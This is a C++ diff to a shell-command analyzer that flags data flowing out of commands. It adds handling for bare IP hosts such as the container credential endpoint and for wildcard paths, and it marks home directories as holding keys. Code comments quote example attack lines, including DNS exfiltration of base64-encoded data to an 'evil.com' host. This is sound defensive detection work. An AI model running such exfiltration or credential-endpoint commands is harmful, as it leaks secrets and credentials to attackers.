@@ -330,6 +330,20 @@ void StepReader::take_mount(const Argument& argument) {
   take_path(EffectKind::read, argument, mount.source, false);
 }
 
+namespace {
+
+// The four numbers that a URL begins with, if something unknown follows; else nothing.
+[[nodiscard]] std::string address_in_front(std::string_view url) {
+  const std::size_t scheme = url.find("://");
+  if (scheme == std::string_view::npos) return {};
+  url.remove_prefix(scheme + 3);
+  const std::string_view front = url.substr(0, url.find_first_not_of("0123456789."));
+  const bool is_whole = std::count(front.begin(), front.end(), '.') == 3 && !front.ends_with('.');
+  return is_whole && url.substr(front.size()).starts_with('$') ? std::string(front) : std::string();
+}
+
+}  // namespace
+
 void StepReader::note_host(const Argument& argument) {
   if (argument.text.starts_with("file:"))
     return take_path(EffectKind::read, argument, without_scheme(argument.text), false, is_shown);
@@ -341,7 +355,9 @@ void StepReader::note_host(const Argument& argument) {
                         (argument.text.find("://") != std::string::npos &&
                          host.find_first_of("$`") == std::string::npos && host.find("…") == std::string::npos &&
                          argument.text.find_first_of("/?#", argument.text.find("://") + 3) != std::string::npos);
-  const std::string& name = is_known ? host : argument.text;
+  // `http://169.254.170.2$PATH`: behind a whole address comes a port or a path.
+  const std::string address = is_known ? std::string() : address_in_front(argument.text);
+  const std::string& name = is_known ? host : address.empty() ? argument.text : address;
   // `dig $(… | base64).evil.com`: the name itself is the message.
   if ((argument.word->sources & from_encoder) != 0 && (argument.role == Role::host || !is_known))
     has_encoded_name_ = true;
@@ -362,6 +378,12 @@ void StepReader::take_path(EffectKind kind, const Argument& argument, std::strin
   std::uint8_t found = sources_by_class(effect.classes);
   const auto written = context_.scope.written.find(effect.object);
   if (written != context_.scope.written.end()) found |= written->second;
+  // `tar xzf x-*.tgz`: what this call put there is meant as well.
+  if ((effect.attributes & is_wildcard) != 0) {
+    for (const auto& [path, sources] : context_.scope.written) {
+      if (sources != 0 && matches_glob(effect.object, path)) found |= sources;
+    }
+  }
   // A whole home holds its keys.
   if ((effect.classes & (path_home | path_root)) != 0 && (effect.attributes & (is_recursive | is_shown)) != 0)
     found |= from_secret | from_key;
